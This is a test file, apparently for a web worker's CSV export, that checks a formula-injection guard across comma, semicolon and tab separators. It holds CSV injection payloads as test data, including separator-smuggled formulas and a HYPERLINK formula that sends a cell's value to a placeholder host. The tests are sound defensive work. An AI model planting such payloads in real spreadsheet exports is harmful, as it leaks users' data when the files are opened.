import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { csvStyle, guardFormula, unguardFormula } from '../../../worker/http/csv.ts';

const separators = [',', ';', '\t'];
const formula = /^[\s"]*[=+\-@＝＋－＠]/;
const cells = [
  'a\n=1',
  'a\r=1',
  'a\r\n=1',
  'foo;=1',
  'foo;=HYPERLINK(A1);',
  'foo,=1',
  'foo\t=1',
  'foo; "=1',
  'foo;"＝1',
  ' =1',
  '=1',
  '＝1',
  "'=1",
  "foo;'=1",
  'Hi\n=HYPERLINK("http://x/?"&A1)',
];

describe('a cell for spreadsheets', () => {
  it.each(cells)('runs nothing, at whatever sign it is split: %j', (text) => {
    const cell = guardFormula(text);
    for (const separator of separators) for (const part of cell.split(new RegExp(`[\\r\\n${separator}]`))) expect(part).not.toMatch(formula);
  });

  it.each(cells)('is one cell, whatever its file is parted by: %j', (text) => {
    for (const delimiter of separators) {
      const file = stringify([['before', guardFormula(text), 'after']], { ...csvStyle, delimiter });
      expect(parse(file, { delimiter })).toEqual([['before', guardFormula(text), 'after']]);
    }
  });

  it.each(cells)('is read as it was: %j', (text) => {
    expect(unguardFormula(guardFormula(text))).toBe(text.trim());
  });

  it.each(['size 5-6', 'a, b; c', 'mail@example.com', '1 + 1 = 2', "it's", 'a;b'])('stays as it is where nothing could run: %j', (text) => {
    expect(guardFormula(text)).toBe(text);
  });

  it('is quoted where any spreadsheet would split it', () => {
    expect(stringify([['foo;bar', 'a\nb', 'x\ty', 'plain']], csvStyle)).toBe('"foo;bar","a\nb","x\ty",plain\r\n');
  });
});
